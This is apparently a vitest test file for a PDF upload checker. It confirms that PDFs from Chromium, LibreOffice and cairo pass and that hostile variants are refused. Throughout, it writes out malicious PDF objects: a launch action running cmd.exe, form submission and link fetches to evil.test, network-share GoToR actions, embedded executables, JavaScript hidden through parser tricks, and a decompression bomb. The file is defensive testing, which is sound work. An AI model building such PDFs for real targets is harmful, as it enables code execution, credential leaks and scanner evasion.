import { execFile } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import * as hostile from '@verdalia/test-files/hostile-files';
import { objectStreamBomb } from '@verdalia/test-files/pdf-files';
import {
  duplicatedScriptKeys,
  hiddenScripts,
  pdfIncrement,
  pdfWithLink,
} from '@verdalia/test-files/pdf-updates';
import { makeRealDocuments } from '@verdalia/test-files/real-documents';
import { file, followed, judgeEach, verdictOf, type Case } from './support/verdict.js';

const run = promisify(execFile);

// PDFs as visitors' programs write them, and the hostile variants an attacker makes from one:
// each judged by checkFile as the API asks for it (apps/api sends a few through the server).
const real = await makeRealDocuments();

/** Chromium's PDF, updated with these objects and an addition to its catalog. */
const pdfWith = (objects: Record<number, string>, catalog: string) => () =>
  hostile.pdfUpdate(real.pdf, objects, catalog);
/** Chromium's PDF, updated with `body` and an index entry for object 90 where `mark` is in it. */
const pdfAt = (body: string, mark: string) => () =>
  hostile.pdfUpdateAt(real.pdf, body, { 90: body.indexOf(mark) }, '/OpenAction 90 0 R');
const javascriptAction = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';

const accepted: Case[] = [
  file('a PDF printed by Chromium, with a web link', 'propuesta.pdf', () => real.pdf),
  file(
    'a PDF exported by LibreOffice (stream lengths in objects of their own)',
    'propuesta.pdf',
    () => real.libreofficePdf,
  ),
  file(
    'a PDF drawn by cairo 1.16 (rsvg-convert) whose table lists an object the file does not hold',
    'plano.pdf',
    () => real.cairoPdf,
  ),
  ...['https://verdalia.example/', 'mailto:contacto@verdalia.example', 'anexo.pdf'].map((target) =>
    file(`a PDF with a link to ${target}`, 'propuesta.pdf', () =>
      pdfWithLink(real.pdf, `<< /S /URI /URI (${target}) >>`),
    ),
  ),
  file('a PDF with a link to another PDF beside it (GoToR)', 'propuesta.pdf', () =>
    pdfWithLink(real.pdf, '<< /S /GoToR /F (anexo.pdf) /D [0 /Fit] >>'),
  ),
];

/** Links whose scheme Windows hands to a program other than a browser or a mail client. */
const foreignLinks = [
  'search-ms:query=factura&crumb=location:%5C%5Cevil.test%5Cshare',
  'ms-word:ofe|u|https://evil.test/plantilla.docx',
  'file:///C:/Users/Public/factura.hta',
  'javascript:app.alert(1)',
  'ftp://evil.test/factura.exe',
];

/** Files whose scripts or links are where poppler reads them and qpdf's table does not lead. */
const hidden: Case[] = [
  ...Object.entries(hiddenScripts).map(([what, make]) =>
    file(`a PDF whose script is ${what}`, 'factura.pdf', () => make(real.pdf), /JavaScript/),
  ),
  file(
    'a PDF whose script action gives /S and /JS twice (poppler takes the first, qpdf the last)',
    'factura.pdf',
    () => duplicatedScriptKeys(real.pdf),
    /twice/,
  ),
];

const refused: Case[] = [
  file(
    'a PDF with an executable in a page’s file attachment annotation (no name tree, no /Type)',
    'factura.pdf',
    () => hostile.pdfWithAnnotationAttachment(real.pdf, hostile.executable()),
  ),
  file(
    'a PDF whose open action opens a file on a network share (GoToR to \\\\host\\share)',
    'factura.pdf',
    pdfWith(
      {
        90: '<< /S /GoToR /F (\\\\\\\\evil.test\\\\share\\\\informe.pdf) /D [0 /Fit] /NewWindow true >>',
      },
      '/OpenAction 90 0 R',
    ),
  ),
  file(
    'a PDF whose open action submits a form',
    'factura.pdf',
    pdfWith(
      { 90: '<< /S /SubmitForm /F << /FS /URL /F (https://evil.test/collect) >> /Flags 4 >>' },
      '/OpenAction 90 0 R',
    ),
  ),
  file(
    'a PDF whose open action imports data',
    'factura.pdf',
    pdfWith({ 90: '<< /S /ImportData /F (datos.fdf) >>' }, '/OpenAction 90 0 R'),
  ),
  file(
    'a PDF whose open action fetches an address (/URI run on opening)',
    'factura.pdf',
    pdfWith({ 90: '<< /S /URI /URI (https://evil.test/pixel.png) >>' }, '/OpenAction 90 0 R'),
  ),
  file(
    'a PDF with an associated file (/AF)',
    'factura.pdf',
    pdfWith({ 90: '<< /Type /Filespec /F (datos.xml) /AFRelationship /Data >>' }, '/AF [90 0 R]'),
  ),
  file(
    'a web page with a script between %PDF-1.4 and %%EOF, named .pdf',
    'factura.pdf',
    hostile.htmlAsPdf,
  ),
  file(
    'a PDF with JavaScript run on opening (/OpenAction, /JS)',
    'factura.pdf',
    pdfWith({ 90: javascriptAction }, '/OpenAction 90 0 R'),
  ),
  file(
    'a PDF with JavaScript under #xx-escaped names',
    'factura.pdf',
    pdfWith(
      { 90: '<< /Type /Action /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>' },
      '/OpenAction 90 0 R',
    ),
  ),
  file(
    'a PDF with JavaScript inside a compressed object stream',
    'factura.pdf',
    pdfWith({ 91: hostile.objectStream({ 90: javascriptAction }) }, '/OpenAction 90 0 R'),
  ),
  file(
    'a PDF whose script object hides behind a stray stream keyword (a %endstream comment ends it)',
    'factura.pdf',
    pdfAt(`\nstream\n90 0 obj\n${javascriptAction}\nendobj\n%endstream\n`, '90 0 obj'),
  ),
  file(
    'a PDF whose index sends the reader to a script object inside a comment',
    'factura.pdf',
    pdfAt(`\n% 90 0 obj ${javascriptAction} endobj\n`, '90 0 obj'),
  ),
  file(
    'a PDF whose index sends the reader to a script object inside a string',
    'factura.pdf',
    pdfAt(`\n89 0 obj\n(90 0 obj ${javascriptAction} endobj)\nendobj\n`, '90 0 obj'),
  ),
  file(
    'a PDF whose object stream hides its script behind a fake endstream (a reader goes by /Length)',
    'factura.pdf',
    pdfWith(
      { 91: hostile.objectStream({ 90: javascriptAction }, { fakeEnd: true }) },
      '/OpenAction 90 0 R',
    ),
  ),
  file(
    'a PDF with a launch action',
    'factura.pdf',
    pdfWith(
      { 90: '<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>' },
      '/OpenAction 90 0 R',
    ),
  ),
  file(
    'a PDF with an embedded file',
    'factura.pdf',
    pdfWith(
      {
        90: '<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\0\0\nendstream',
        91: '<< /Type /Filespec /F (factura.exe) /EF << /F 90 0 R >> >>',
        92: '<< /EmbeddedFiles << /Names [(factura.exe) 91 0 R] >> >>',
      },
      '/Names 92 0 R',
    ),
  ),
  file(
    'a PDF carrying a ZIP whose end record is 100 KiB from the end',
    'factura.pdf',
    followed(
      () => real.pdf,
      hostile.smallZip,
      () => Buffer.from(`\n%${'x'.repeat(100_000)}\n%%EOF\n`),
    ),
  ),
  ...hidden,
  file(
    'a PDF whose link gives /URI twice: a share first, a web page last',
    'factura.pdf',
    () =>
      pdfWithLink(
        real.pdf,
        `<< /S /URI /URI (\\\\\\\\evil.test\\\\share) ${Array.from({ length: 33 }, (_, i) => `/P${i} ${i}`).join(' ')} /URI (https://verdalia.example/) >>`,
      ),
    /twice/,
  ),
  ...foreignLinks.map((target) =>
    file(
      `a PDF with a link to ${target}`,
      'factura.pdf',
      () => pdfWithLink(real.pdf, `<< /S /URI /URI (${target}) >>`),
      /leads to|reaches/,
    ),
  ),
  file(
    'a PDF whose open action follows a thread in a file on the web (Thread, /F a URL)',
    'factura.pdf',
    pdfWith(
      { 90: '<< /S /Thread /F << /FS /URL /F (https://evil.test/t.pdf) >> /D 0 >>' },
      '/OpenAction 90 0 R',
    ),
    /Thread/,
  ),
  file(
    'a PDF whose object stream inflates to 60 MiB (a decompression bomb)',
    'factura.pdf',
    () => objectStreamBomb(60 * 1024 * 1024),
    /decompression bomb/,
  ),
];

describe('PDFs: ordinary ones from real programs pass, hostile variants of them are refused', () => {
  judgeEach(accepted, refused);
});

// What the hostile files above hide, poppler (Evince, Okular) reads: each case asks it.
describe('PDFs: poppler finds what the hidden cases hide', () => {
  const popplerSays = async (bytes: Buffer, option: '-js' | '-url') => {
    const dir = await mkdtemp(path.join(tmpdir(), 'verdalia-poppler-'));
    try {
      await writeFile(path.join(dir, 'file.pdf'), bytes);
      return (await run('pdfinfo', [option, path.join(dir, 'file.pdf')])).stdout;
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  };

  it.each(Object.entries(hiddenScripts))('pdfinfo -js prints the script of %s', async (_, make) => {
    expect(await popplerSays(make(real.pdf), '-js')).toContain('app.alert(1)');
  });

  it('pdfinfo -url lists every foreign link, and the cairo PDF holds no object its table names', async () => {
    for (const target of foreignLinks) {
      const url = await popplerSays(
        pdfWithLink(real.pdf, `<< /S /URI /URI (${target}) >>`),
        '-url',
      );
      expect(url, target).toContain(target);
    }
    const cairo = real.cairoPdf.toString('latin1');
    expect(cairo).toContain('cairo 1.16');
    const listed = /xref\s+0 (\d+)/.exec(cairo)?.[1] ?? '0';
    const written = new Set([...cairo.matchAll(/(?:^|\n)(\d+) 0 obj/g)].map((match) => match[1]));
    expect(written.size).toBeLessThan(Number(listed) - 1);
  });

  it('an ordinary update of the same kind, its objects listed, passes', async () => {
    const update = pdfIncrement(
      real.pdf,
      [{ number: 90, body: '<< /Names [] >>' }],
      '/Names << /Dests 90 0 R >>',
    );
    expect(await verdictOf('propuesta.pdf', update)).toEqual({ ok: true, leftovers: [] });
  });
});
